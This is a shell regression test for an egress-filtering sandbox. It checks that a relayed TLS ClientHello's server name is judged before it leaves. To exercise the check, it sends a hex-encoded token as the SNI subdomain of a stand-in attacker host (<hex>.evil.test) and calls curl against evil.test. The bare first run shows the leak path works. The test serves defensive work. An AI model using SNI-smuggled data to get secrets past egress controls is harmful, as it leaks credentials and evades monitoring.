#!/bin/sh
# 403-relay-tls-sni: the key path's TLS server name is judged (branch
# redteam-egress3). The key path forwards a hooked client's ClientHello
# as written, and its server name went out unjudged: python3 connecting to
# an allowed address with server_hostname="<hex of a token>.evil.test"
# delivered the hex to the server (and to any SNI-routing front on that
# address, which would forward the session to evil.test), where the CA
# path refuses a name the policy does not allow. Now the name is judged
# before the hello leaves: a name the broker resolved to the address
# passes, any other is judged as a lookup of it would be (policy, then the
# DNS exfiltration checks; event rule "... via tls-sni"). Seen failing with
# rl_tls_sni_gate() off: the hex and evil.test arrived, no event.
# Legitimate: a connection by name, an allowed name on a pinned address
# (python3, curl --resolve) still complete their request.
. "$(dirname "$0")/lib.sh"
dns_sandbox
need_relay
. "$top_srcdir/t/tls/lib-tls.sh"
command -v curl >/dev/null || skip "curl not installed"
make_ca

start_server recsrv.py 127.0.0.1 rec
start_https 127.0.0.1 web
C="python3 $top_srcdir/t/e2e/tls_sni.py"
J="--no-default-policy --relay --allow 127.0.0.1 --allow *.allowed.test --log $T/events.jsonl -q"
HEX=414b49415a3751483358354c54   # a token's first bytes, hex: no detector reads it
run() { : > "$T/events.jsonl"; out=$(timeout 20 "$DLPJAIL" $J -- "$@" 2>&1); sleep 0.3; }

out=$(timeout 20 $C 127.0.0.1 "$rec_PORT" "$HEX.evil.test" m0 2>&1)
sleep 0.3
check "bare: the server name reaches the recorder (the channel is real)" grep -q "$HEX" "$rec_LOG"

: > "$rec_LOG"
run $C 127.0.0.1 "$rec_PORT" "$HEX.evil.test" m1
check "python3 SNI <hex>.evil.test: the hello never arrives ($out)" \
	sh -c "! grep -q '$HEX' '$rec_LOG' && ! grep -q evil.test '$rec_LOG'"
check "...a deny event via tls-sni" event_has '"verdict":"deny"' 'via tls-sni'
check "...the event shows the name redacted" sh -c "! grep -q '$HEX' '$T/events.jsonl'"
check "...the program is told why" has "$out" 'server name not allowed'
run $C 127.0.0.1 "$rec_PORT" "$HEX.allowed.test" m2
check "python3 SNI <hex>.allowed.test (allowed zone, data-shaped): never arrives ($out)" \
	sh -c "! grep -q '$HEX' '$rec_LOG'"
check "...refused by the DNS checks" event_has '"verdict":"deny"' 'dns-.* via tls-sni'
run curl -sk --resolve "evil.test:$rec_PORT:127.0.0.1" "https://evil.test:$rec_PORT/m3"
check "curl --resolve evil.test (key path): the hello never arrives" \
	sh -c "! grep -q evil.test '$rec_LOG'"
check "...a deny event via tls-sni" event_has '"verdict":"deny"' 'via tls-sni'

run $C www.allowed.test "$web_PORT" www.allowed.test ok-by-name
check "python3 by name (SNI = the resolved name) arrives ($out)" grep -q "GET /ok-by-name" "$web_LOG"
run $C 127.0.0.1 "$web_PORT" far.allowed.test ok-pinned
check "python3 to an address, SNI an allowed name, arrives ($out)" grep -q "GET /ok-pinned" "$web_LOG"
run curl -sk --resolve "pin.allowed.test:$web_PORT:127.0.0.1" "https://pin.allowed.test:$web_PORT/ok-curl"
check "curl --resolve an allowed name arrives ($out)" grep -q "GET /ok-curl" "$web_LOG"
check "...with no refusal" sh -c "! grep -q '\"verdict\":\"deny\"' '$T/events.jsonl'"
finish
